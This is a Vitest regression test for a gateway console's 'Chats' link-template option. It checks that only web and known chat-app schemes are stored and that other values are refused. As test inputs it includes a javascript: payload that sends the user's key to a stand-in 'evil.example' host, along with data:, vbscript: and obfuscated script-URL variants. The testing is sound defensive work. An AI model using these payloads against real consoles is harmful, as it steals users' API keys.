import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { setupRoot, type ConsoleClient } from '../support/console-client.js';
import { startGateway, type TestGateway } from '../support/gateway.js';

/**
 * `Chats` templates become links the console opens with the user's key filled in: a `javascript:`
 * template once ran in the console's origin on /chat2link and sent the key away.
 */
describe('Chats option: only web and known chat-app links', () => {
  let gw: TestGateway;
  let root: ConsoleClient;
  const good = JSON.stringify([
    { Web: 'https://chat.example.com/?key={key}&url={address}' },
    { Plain: 'http://chat.example.com/#/{key}' },
    { AMA: 'ama://set-api-key?server={address}&key={key}' },
    { OpenCat: 'opencat://team/join?domain={address}&token={key}' },
    { Cherry: 'cherrystudio://providers/api-keys?v=1&data={key}' },
  ]);
  const stored = async (): Promise<string | null> =>
    (await gw.sql<{ value: string }[]>`SELECT value FROM options WHERE key = 'Chats'`)[0]?.value ?? null;
  const statusChats = async () => (await root.get<{ chats: unknown }>('/api/status')).body.data!.chats;

  beforeAll(async () => {
    gw = await startGateway();
    root = await setupRoot(gw);
    expect((await root.put('/api/option/', { key: 'Chats', value: good })).body).toEqual({ success: true, message: '' });
  });
  afterAll(() => gw?.stop());

  it('stores web and chat-app links', async () => {
    expect(await stored()).toBe(good);
    expect(await statusChats()).toEqual(JSON.parse(good));
  });

  it.each([
    ['javascript:', 'javascript:fetch("https://evil.example/?k={key}")'],
    ['upper-case JavaScript:', 'JavaScript:alert("{key}")'],
    ['a leading space', ' javascript:alert("{key}")'],
    ['a tab inside the scheme', 'java\tscript:alert("{key}")'],
    ['data:', 'data:text/html,<script>alert("{key}")</script>'],
    ['vbscript:', 'vbscript:msgbox("{key}")'],
    ['a scheme-relative link', '//evil.example/?k={key}'],
    ['a placeholder first', '{address}/?k={key}'],
  ])('refuses %s and keeps the stored value', async (_name, template) => {
    const value = JSON.stringify([{ Ok: 'https://chat.example.com/{key}' }, { Evil: template }]);
    const r = await root.put('/api/option/', { key: 'Chats', value });
    expect(r.body.success).toBe(false);
    expect(r.body.message).toMatch(/^Chats 中「Evil」的链接只能以 .*https:\/\/.* 开头$/);
    expect(await stored()).toBe(good);
    expect(await statusChats()).toEqual(JSON.parse(good));
  });
});
